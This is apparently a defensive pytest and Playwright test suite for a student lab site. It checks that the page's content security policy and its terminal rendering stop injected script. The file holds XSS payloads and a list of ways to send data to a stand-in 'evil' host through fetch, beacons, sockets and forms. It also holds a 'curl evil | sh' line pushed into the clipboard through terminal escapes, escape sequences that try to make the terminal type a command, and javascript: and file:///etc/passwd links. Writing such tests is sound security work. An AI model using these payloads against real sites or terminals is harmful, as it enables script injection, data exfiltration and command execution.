"""Run script in a student's page.

First as if something had slipped through already: the page's policy stops it in a real Chromium. Then with all that a host can say: the same browser
without that policy finds nothing that could run. Must not know how a page is made: what it holds at the end is looked at.
"""
import base64
import uuid
from urllib.parse import quote

import pytest

from netcontrol.models import Command, Sandbox
from tests.browsing import at_prompt, cell, text, until
from tests.conftest import LESSON

from .catalogue import control, session
from .other_site import apart, as_guest

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180), pytest.mark.usefixtures("beside_the_driver")]
CSP, TERMINAL, STEP = "labsite/settings.py:CONTENT_SECURITY_POLICY", "static/js/terminal.js", f"/lessons/{LESSON}/1/"
PAYLOAD = "<img src=x onerror=pwned()><svg onload=pwned()></svg><script>pwned()</script>\"'><iframe srcdoc='<script>parent.pwned()</script>'></iframe>"
HELD = """() => [...document.querySelectorAll('body *')].filter((node) => node.matches('iframe, object, embed, base, plaintext, xmp, marquee, img:not([src^="data:"]):not([src^="blob:"])')
  || node.matches('script:not([src]):not([type="application/json"])') || [...node.attributes].some(({ name, value }) => name.startsWith('on') || /^\\s*javascript:/i.test(value))).map((node) => node.outerHTML.slice(0, 200))"""

# How script or markup that slipped through would run, or tell another site something. `evil` is the other site's address.
SLIPS = {
    "an inline script": "add('script', { textContent: 'self.pwned = 1' })",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<img src=/nowhere onerror=\"self.pwned = 1\"><svg onload=\"self.pwned = 1\">')",
    "a link of script": "add('a', { href: 'javascript:self.pwned = 1' }).click()",
    "eval": "eval('self.pwned = 1')",
    "a function of text": "new Function('self.pwned = 1')()",
    "a timer of text": "setTimeout('self.pwned = 1', 0)",
    "a script of another site": "add('script', { src: evil + '/a.js' })",
    "a script as data": "add('script', { src: 'data:text/javascript,self.pwned=1' })",
    "a script as blob": "add('script', { src: URL.createObjectURL(new Blob(['self.pwned = 1'], { type: 'text/javascript' })) })",
    "a module of another site": "import(evil + '/a.mjs')",
    "a worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + evil + '/worker\")'], { type: 'text/javascript' })))",
    "a frame": "add('iframe', { src: evil + '/frame' })",
    "a frame of script": "add('iframe', { srcdoc: '<script>parent.pwned = 1</scr' + 'ipt>' })",
    "an object": "add('object', { data: evil + '/object' })",
    "a plug-in": "add('embed', { src: evil + '/embed' })",
    "a picture of another site": "add('img', { src: evil + '/a.svg' })",
    "a style of another site": "add('link', { rel: 'stylesheet', href: evil + '/a.css' })",
    "a style's picture": "add('style', { textContent: 'body { background: url(' + evil + '/b.svg) }' })",
    "a font": "new FontFace('x', 'url(' + evil + '/font)').load()",
    "fetch": "fetch(evil + '/fetch', { mode: 'no-cors' })",
    "a beacon": "navigator.sendBeacon(evil + '/beacon', 'x')",
    "a socket": "new WebSocket(evil.replace('http', 'ws') + '/socket')",
    "events": "new EventSource(evil + '/events')",
    "a form": "(() => { add('form', { action: evil + '/form', method: 'post', target: 'other' }).submit(); add('iframe', { name: 'other' }); })()",
    "a base": "(() => { document.head.prepend(Object.assign(document.createElement('base'), { href: evil + '/' })); add('img', { src: 'based.svg' }); })()",
    "media": "add('video', { src: evil + '/video' }).load()",
}
RUN = """async ({ evil, slip }) => {
  const add = (tag, fields) => { const made = Object.assign(document.createElement(tag), fields); document.body.append(made); return made; };
  const broken = [];
  addEventListener('securitypolicyviolation', ({ effectiveDirective }) => broken.push(effectiveDirective));
  delete self.pwned;
  await new Promise((done) => setTimeout(done)); // out of what the driver has evaluated, for which there is no policy
  try { await Promise.race([SLIP, new Promise((done) => setTimeout(done, 1000))]); } catch { /* refused */ }
  for (let n = 0; n < 20 && !broken.length && !self.pwned; n++) await new Promise((done) => setTimeout(done, 50));
  return { pwned: self.pwned ?? null, broken };
}"""


@pytest.fixture(scope="module")
def lesson_page(chromium, bob):
    """Bob's, with the policy that the lab sends."""
    page = as_guest(chromium, bob.guest)
    page.goto(bob.guest.base + STEP)
    yield page
    page.context.close()


def slips(page, evil, how: str) -> dict:
    evil.asked.clear()
    told = page.evaluate(RUN.replace("SLIP", f"({SLIPS[how]})"), {"evil": evil.same_host, "slip": how})
    page.wait_for_timeout(50)
    return {**told, "asked": [path for _, path, _ in evil.asked if path not in ("/", "/favicon.ico")]}


@control("the same in a page without a policy")
def without_a_policy(chromium, evil):
    page = as_guest(chromium, None)
    page.goto(evil.elsewhere + "/")
    for how in ("an inline script", "a handler", "eval", "a script of another site", "a frame", "a picture of another site", "fetch", "a beacon"):
        told = slips(page, evil, how)
        assert told["pwned"] or told["asked"], how
    page.context.close()


@session("runs script, or tells another site something, with markup that slipped into a page", holds="the policy of the page: everything is 'self', nothing inline, no eval, no frames, forms to the lab only", at=CSP, seen="Chromium: nothing ran; the other site: it was asked for nothing")
@pytest.mark.parametrize("how", SLIPS)
def slipped_through(lesson_page, evil, how):
    told = slips(lesson_page, evil, how)
    assert told["pwned"] is None and told["asked"] == [], told
    assert told["broken"] or how == "a frame of script", "the policy has to be what stopped it"  # that frame has the policy, and tells nobody
    if "a base" in how or "frame" in how or "form" in how:
        lesson_page.evaluate("document.querySelectorAll('base, iframe, form[action*=evil]').forEach((node) => node.remove())")


@session("finds a page of the lab without a policy, or with a weak one", holds="one middleware for all answers, refusals and errors included", at="labsite/settings.py:CSPMiddleware", seen="the headers of each kind of answer")
@pytest.mark.parametrize("path", ["/", STEP, "/account/sign-in", "/lab/history", "/lab/state", "/nowhere", "/lab/history/00000000-0000-0000-0000-000000000000", "/lab/reset", "/lessons/nowhere/"])
def every_page_has_the_policy(bob, path):
    headers = bob.guest.get(path).headers
    policy = {part.split()[0]: part.split()[1:] for part in headers["Content-Security-Policy"].split(";") if part.split()}
    scripts = policy.get("script-src", policy["default-src"])
    assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "data:", "blob:", "http:", "https:"} & set(scripts) and "'self'" in scripts
    assert policy.get("object-src", policy["default-src"]) == policy["base-uri"] == policy["frame-ancestors"] == ["'none'"] and policy["form-action"] == ["'self'"]
    assert headers["X-Content-Type-Options"] == "nosniff" and headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "same-origin" and headers["Cross-Origin-Opener-Policy"] == "same-origin"


# What a host says, in a browser without a policy

SET_UP = r"""set -e
ip link add '<plaintext>' type bridge; ip link set '<plaintext>' up alias '<img src=x onerror=pwned()>'
ip link add '<xmp>' type veth peer name '<b>pwned'
iptables -t nat -A POSTROUTING -s 203.0.113.0/24 -m comment --comment '<img src=x onerror=pwned()>' -j ACCEPT
nft 'add table ip evil; add chain ip evil c { type filter hook forward priority 0; comment "<svg onload=pwned()>"; }; add rule ip evil c counter comment "<img src=x onerror=pwned()>"'
docker network create --label 'a=<svg onload=pwned()>' -o com.docker.network.bridge.name='<marquee>' evil-net
docker run -d --name evil --network evil-net --label 'a=<svg onload=pwned()>' -e 'A=<img src=x onerror=pwned()>' -w '/<svg onload=pwned()>' busybox sh -c 'sleep 999 # <img src=x onerror=pwned()>'
ip netns add '<object>'
"""
UNDO = "docker rm -f evil; docker network rm evil-net; ip link del '<plaintext>'; ip link del '<xmp>'; ip netns del '<object>'; nft delete table ip evil; iptables -t nat -D POSTROUTING -s 203.0.113.0/24 -m comment --comment '<img src=x onerror=pwned()>' -j ACCEPT"


@pytest.fixture(scope="module")
def alice(guest_stars):
    """With a host on which nothing else was tried: what she puts there has to be there."""
    return guest_stars()


@pytest.fixture(scope="module")
def alices(chromium, alice):
    """A page of Alice's, whose host says script wherever it can, in a browser that has no policy against it. `ran`: what did."""
    made = apart(alice.tries, SET_UP, 60)
    assert made.code == 0, made
    page = as_guest(chromium, alice.guest, bypass_csp=True)
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=alice.guest.base)
    page.ran = []
    page.expose_function("pwned", lambda *_: page.ran.append("script"))
    page.on("dialog", lambda dialog: (page.ran.append(dialog.message), dialog.dismiss()))
    page.context.on("page", lambda other: page.ran.append(f"a window at {other.url}"))
    page.goto(alice.guest.base + STEP)
    until(page, lambda: at_prompt(page), 30, "the prompt")
    yield page
    page.context.close()
    apart(alice.tries, UNDO, 60)


def prints(page, output: str, wanted: str) -> None:
    """Have a command print this, whatever it is, and wait until the terminal has drawn what follows it."""
    packed = base64.b64encode(output.encode()).decode()
    done = uuid.uuid4().hex[:8]
    page.locator(".screen:not([hidden]) textarea").focus()
    page.keyboard.insert_text(f"echo {packed} | base64 -d; echo {done[:4]}''{done[4:]} {wanted}")
    page.keyboard.press("Enter")
    until(page, lambda: done in text(page), 20, "what was printed")


def held(page) -> None:
    assert page.ran == [] and page.evaluate(HELD) == []


@control("the same texts where they are markup")
def as_markup(chromium):
    page = as_guest(chromium, None)
    ran = []
    page.expose_function("pwned", lambda *_: ran.append("script"))
    page.set_content(PAYLOAD)
    page.wait_for_timeout(100)
    assert ran and page.evaluate(HELD)
    page.context.close()


@session("prints HTML and script on a terminal", holds="output goes to xterm.js only, which draws text", at=f"{TERMINAL}:xterm.write", seen="Chromium without a policy: nothing ran, no such element is in the page")
def script_in_output(alices):
    prints(alices, f"{PAYLOAD}\r\n\x1b]0;{PAYLOAD}\x07\x1b]8;;{PAYLOAD}\x07link\x1b]8;;\x07\r\n", "seen")
    held(alices)


@session("names devices, rules, networks, containers and namespaces so that they are markup", holds="the picture and its words are made of text nodes", at="static/js/words.js:text is never parsed as HTML", seen="Chromium without a policy: nothing ran in any view of the network")
def script_in_the_network(alices):
    pane = alices.locator("#netpane")
    for view in ("text", "follow", "reach", "picture"):
        alices.locator(f"#netpane [data-show={view}]").click()
        until(alices, lambda: "<plaintext>" in pane.text_content(), 30, f"the device in the view {view}")
        held(alices)
    touched = alices.evaluate("""async () => {
      const things = document.querySelectorAll('[data-net-drawing] .it[data-id]');
      for (const thing of things) {
        for (const what of ['pointerover', 'pointermove', 'mouseover', 'focus', 'click']) thing.dispatchEvent(new MouseEvent(what, { bubbles: true }));
        await new Promise((done) => setTimeout(done, 20));
      }
      return things.length;
    }""")
    assert touched > 10
    held(alices)


@session("names a terminal so that it is markup", holds="a name is 24 characters of text", at="static/js/tabs.js:button.title", seen="Chromium without a policy: nothing ran")
def script_in_a_terminal_s_name(alices, alice):
    from tests.page import Page

    name = "<svg onload=pwned()>"

    def rename() -> None:
        with Page(alice.guest, "lab") as other:
            other.until(lambda: "lab" in other.opened, 20, "the shell")
            other.send("shell.name", shell="lab", name=name)
            other.until(lambda: any(m["type"] == "shell.named" for m in other.events), 20, "the name")

    apart(rename)
    until(alices, lambda: name in alices.locator("[data-tabs]").inner_text(), 20, "the name in the page")
    held(alices)


@session("runs a command whose text and output are markup, and opens the history", holds="templates escape; what was found is marked after it", at="netcontrol/templatetags/said.py:escape", seen="Chromium without a policy: nothing ran on the history, one command's page, or a search for it")
def script_in_the_history(alices, alice, database):
    sandbox = Sandbox.objects.get(pk=alice.guest.sandbox)
    row = Command.objects.create(pk=uuid.uuid4(), sandbox=sandbox, host="lab", shell="lab", block=PAYLOAD[:60], text=f"echo '{PAYLOAD}'", exit_code=1, duration_ms=1, output_head=f"{PAYLOAD}\n" * 3, output_bytes=9, started_at=sandbox.claimed_at)
    page = alices.context.new_page()
    alices.ran.clear()
    page.expose_function("pwned", lambda *_: alices.ran.append("script"))
    try:
        for path in ("/lab/history", f"/lab/history/{row.pk}", f"/lab/history?q={quote(PAYLOAD[:150])}", f"/lab/history?q={quote('<img')}", f"/lab/history?lab={sandbox.pk}&q={quote(chr(34) + ' onfocus=pwned() autofocus x=')}&page={quote(PAYLOAD)}"):
            page.goto(alice.guest.base + path)
            assert "onerror" in page.content() or "onfocus" in path
            assert alices.ran == [] and page.evaluate(HELD) == []
        said = page.evaluate("async () => { const answer = await fetch('/lab/history.txt'); return [answer.headers.get('content-type'), answer.headers.get('content-disposition')]; }")
        assert said[0].startswith("text/plain") and said[1].startswith("attachment")
    finally:
        page.close()
        row.delete()


@session("puts markup into the address of a page", holds="templates escape; an address is letters, digits and -", at="lessons/urls.py:slug", seen="Chromium without a policy: nothing ran on the page of the refusal")
@pytest.mark.parametrize("path", ["/{}", "/lessons/{}/", STEP + "?x={}", "/account/sign-in?next=/{}", "/account/keep?next={}", "/lab/history?lab={}", STEP + "#{}"])
def script_in_an_address(alices, alice, path):
    page = alices.context.new_page()
    alices.ran.clear()
    page.expose_function("pwned", lambda *_: alices.ran.append("script"))
    page.goto(alice.guest.base + path.format(quote(PAYLOAD, safe="/" if "{}" not in path[:3] else "")))
    assert alices.ran == [] and page.evaluate(HELD) == []
    page.close()


# What a terminal obeys

@session("writes into the clipboard of whoever looks at the terminal (OSC 52), or reads it", holds="xterm.js has no clipboard of its own here, and nothing adds one", at=f"{TERMINAL}:loadAddon", seen="Chromium: the clipboard is as it was, and nothing was typed")
def the_clipboard(alices):
    alices.evaluate("navigator.clipboard.writeText('mine')")
    evil = base64.b64encode(b"curl evil | sh").decode()
    prints(alices, "".join(f"\x1b]52;{which};{evil}\x07\x1b]52;{which};{evil}\x1b\\\x1b]52;{which};?\x07" for which in ("c", "p", "s", "0", "")) + f"\x1b]1337;Copy=:{evil}\x07\x1bPtmux;\x1b\x1b]52;c;{evil}\x07\x1b\\", "seen")
    assert alices.evaluate("navigator.clipboard.readText()") == "mine"
    assert at_prompt(alices), text(alices)[-300:]


@session("has the terminal type a command by itself: its title, its name, an answer that it sends back", holds="xterm.js reports no title and no answerback; answers are limited and never free text", at=f"{TERMINAL}:mayAnswer", seen="the host: the file that the command makes is not there; the page's title is the lesson's")
def a_terminal_that_types(alices, alice):
    title = alices.title()
    evil = "touch /root/typed-by-the-terminal"
    prints(alices, f"\x1b]0;\r{evil}\r\x07\x1b]2;{evil}\n\x07\x1b]l{evil}\x1b\\\x1b[21t\x1b[20t\x05\x1bP$q{evil}\r\x1b\\\x1bP+q{evil.encode().hex()}\x1b\\\x1b]4;0;?\x07\x1b]10;?\x07\x1b]50;?\x07\x1b[>q", "seen")
    alices.keyboard.press("Control+c")
    until(alices, lambda: at_prompt(alices), 20, "the prompt")
    assert apart(alice.tries, "test -e /root/typed-by-the-terminal").code == 1
    assert alices.title() == title


@session("shows a link in the terminal that says one address and leads to script or another program", holds="links are http and https only, and what they lead to is shown first", at=f"{TERMINAL}:allowNonHttpProtocols", seen="Chromium: no window opened, nothing ran")
@pytest.mark.parametrize("url", ["javascript:pwned()", "data:text/html,<script>pwned()</script>", "file:///etc/passwd", "blob:x", "vbscript:x", "JaVaScRiPt:pwned()"])
def a_link_in_the_terminal(alices, url):
    word = f"press{uuid.uuid4().hex[:6]}"
    prints(alices, f"\x1b]8;;{url}\x1b\\{word}\x1b]8;;\x1b\\\r\n", "seen")
    alices.ran.clear()
    x, y = cell(alices, word)
    alices.mouse.move(x + 2, y)
    alices.mouse.click(x + 2, y)
    alices.wait_for_timeout(100)
    held(alices)
    assert alices.url.endswith(STEP)
